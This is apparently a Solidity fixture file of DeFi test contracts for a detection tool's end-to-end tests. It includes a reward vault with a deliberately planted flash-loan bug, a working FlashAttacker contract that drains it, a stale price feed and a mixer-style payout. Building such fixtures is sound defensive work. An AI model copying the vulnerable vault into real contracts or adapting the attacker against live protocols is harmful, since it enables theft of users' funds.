// SPDX-License-Identifier: MIT
// DeFi pieces for the detection pack's end-to-end tests on anvil (written for Bulwark): a token, a
// Chainlink-style price feed, a flash lender, a vault with a flash-loanable reward bug and the
// contract that exploits it, and a Uniswap-v2-style pair for liquidity removal and price swings.
pragma solidity ^0.8.20;

contract Coin {
    string public symbol;
    uint8 public decimals;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory s, uint8 d, uint256 supply) {
        symbol = s;
        decimals = d;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

// AggregatorV3Interface's two functions the price reader uses.
contract UsdFeed {
    int256 public answer;
    uint8 public constant decimals = 8;

    constructor(int256 a) {
        answer = a;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, answer, block.timestamp, block.timestamp, 1);
    }
}

// A feed whose answer was last updated three days before the block: a stale price.
contract StaleFeed {
    uint8 public constant decimals = 8;

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (1, 2000_00000000, block.timestamp - 3 days, block.timestamp - 3 days, 1);
    }
}

interface Borrower {
    function onFlashLoan(address token, uint256 amount, uint256 fee) external;
}

// Lends its tokens for one transaction and logs Balancer's FlashLoan event.
contract Lender {
    event FlashLoan(address indexed recipient, address indexed token, uint256 amount, uint256 feeAmount);

    function flashLoan(address recipient, Coin token, uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        uint256 fee = amount / 1000;
        token.transfer(recipient, amount);
        Borrower(recipient).onFlashLoan(address(token), amount, fee);
        require(token.balanceOf(address(this)) >= before + fee, "not repaid");
        emit FlashLoan(recipient, address(token), amount, fee);
    }
}

// The bug: rewards are paid by the caller's balance at the moment of the claim, which a flash loan
// inflates for one transaction.
contract RewardVault {
    Coin public immutable stake;
    Coin public immutable reward;
    mapping(address => bool) public claimed;

    constructor(Coin s, Coin r) {
        stake = s;
        reward = r;
    }

    function claim() external {
        require(!claimed[msg.sender], "claimed");
        claimed[msg.sender] = true;
        uint256 owed = stake.balanceOf(msg.sender) / 1000;
        uint256 left = reward.balanceOf(address(this));
        reward.transfer(msg.sender, owed < left ? owed : left);
    }
}

contract FlashAttacker is Borrower {
    address private immutable owner;
    Lender private immutable lender;
    RewardVault private immutable vault;

    constructor(Lender l, RewardVault v) {
        owner = msg.sender;
        lender = l;
        vault = v;
    }

    function attack(uint256 amount) external {
        lender.flashLoan(address(this), vault.stake(), amount);
        Coin reward = vault.reward();
        reward.transfer(owner, reward.balanceOf(address(this)));
    }

    function onFlashLoan(address token, uint256 amount, uint256 fee) external {
        require(msg.sender == address(lender), "lender");
        vault.claim();
        Coin(token).transfer(address(lender), amount + fee);
    }
}

// A Uniswap-v2-style pair: the same Mint, Burn, Swap and Sync events, constant-product swaps.
contract Pair {
    Coin public immutable token0;
    Coin public immutable token1;
    uint112 private reserve0;
    uint112 private reserve1;
    mapping(address => uint256) public liquidity;
    uint256 public totalLiquidity;

    event Mint(address indexed sender, uint256 amount0, uint256 amount1);
    event Burn(address indexed sender, uint256 amount0, uint256 amount1, address indexed to);
    event Swap(address indexed sender, uint256 amount0In, uint256 amount1In, uint256 amount0Out, uint256 amount1Out, address indexed to);
    event Sync(uint112 reserve0, uint112 reserve1);

    constructor(Coin a, Coin b) {
        token0 = a;
        token1 = b;
    }

    function _sync() private {
        reserve0 = uint112(token0.balanceOf(address(this)));
        reserve1 = uint112(token1.balanceOf(address(this)));
        emit Sync(reserve0, reserve1);
    }

    // the caller has sent both tokens to the pair first, as with Uniswap's router
    function mint(address to) external {
        uint256 a0 = token0.balanceOf(address(this)) - reserve0;
        uint256 a1 = token1.balanceOf(address(this)) - reserve1;
        uint256 l = a0 + a1;
        liquidity[to] += l;
        totalLiquidity += l;
        _sync();
        emit Mint(msg.sender, a0, a1);
    }

    function burn(address to) external {
        uint256 l = liquidity[msg.sender];
        uint256 a0 = token0.balanceOf(address(this)) * l / totalLiquidity;
        uint256 a1 = token1.balanceOf(address(this)) * l / totalLiquidity;
        liquidity[msg.sender] = 0;
        totalLiquidity -= l;
        token0.transfer(to, a0);
        token1.transfer(to, a1);
        _sync();
        emit Burn(msg.sender, a0, a1, to);
    }

    // sells amountIn of token0 (the caller sent it first) for token1 at the constant product
    function swap0(uint256 amountIn, address to) external {
        uint256 out = uint256(reserve1) * amountIn / (uint256(reserve0) + amountIn);
        token1.transfer(to, out);
        _sync();
        emit Swap(msg.sender, amountIn, 0, 0, out, to);
    }
}

// Pays out like a Tornado Cash pool and logs its Withdrawal event (the deposit side is left out).
contract Mixer {
    event Withdrawal(address to, bytes32 nullifierHash, address indexed relayer, uint256 fee);

    receive() external payable {}

    function withdraw(address payable to, bytes32 nullifierHash, address relayer, uint256 fee) external {
        (bool ok, ) = to.call{value: 1 ether - fee}("");
        require(ok, "pay");
        emit Withdrawal(to, nullifierHash, relayer, fee);
    }
}

// Stands in for an attack contract: anything that can be deployed and called.
contract Probe {
    uint256 public calls;

    function poke() external {
        calls++;
    }
}
